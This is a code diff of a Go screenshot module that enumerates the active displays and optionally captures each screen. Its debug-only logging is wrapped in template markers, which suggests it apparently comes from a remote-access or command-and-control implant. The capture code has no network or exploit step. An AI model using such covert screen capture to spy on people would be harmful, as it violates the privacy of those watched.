@@ -19,47 +19,29 @@ package screen
 */
 
 import (
-	"bytes"
-	"image"
-	"image/png"
-
 	//{{if .Config.Debug}}
 	"log"
 	//{{end}}
+
 	screen "github.com/kbinani/screenshot"
 )
 
-// Screenshot - Retrieve the screenshot of the active displays
-func Screenshot() []byte {
-	return WindowsCapture()
-}
-
-// WindowsCapture - Retrieve the screenshot of the active displays
-func WindowsCapture() []byte {
-	nDisplays := screen.NumActiveDisplays()
-
-	var all image.Rectangle = image.Rect(0, 0, 0, 0)
-
-	for i := 0; i < nDisplays; i++ {
-		rect := screen.GetDisplayBounds(i)
-		all = rect.Union(all)
+// capture - The active displays, and their screenshots if images is set
+func capture(images bool) ([]display, error) {
+	displays := []display{}
+	for index := 0; index < screen.NumActiveDisplays(); index++ {
+		active := display{bounds: screen.GetDisplayBounds(index)}
+		if images {
+			img, err := screen.CaptureRect(active.bounds)
+			if err != nil {
+				//{{if .Config.Debug}}
+				log.Printf("Error capturing display %d: %s", index, err)
+				//{{end}}
+				return nil, err
+			}
+			active.img = img
+		}
+		displays = append(displays, active)
 	}
-	img, err := screen.Capture(all.Min.X, all.Min.Y, all.Dx(), all.Dy())
-
-	if err != nil {
-		//{{if .Config.Debug}}
-		log.Printf("Error Capture: %s", err)
-		//{{end}}
-	}
-
-	var buf bytes.Buffer
-	if err != nil {
-		//{{if .Config.Debug}}
-		log.Println("Capture Error")
-		//{{end}}
-		return buf.Bytes()
-	}
-
-	png.Encode(&buf, img)
-	return buf.Bytes()
+	return displays, nil
 }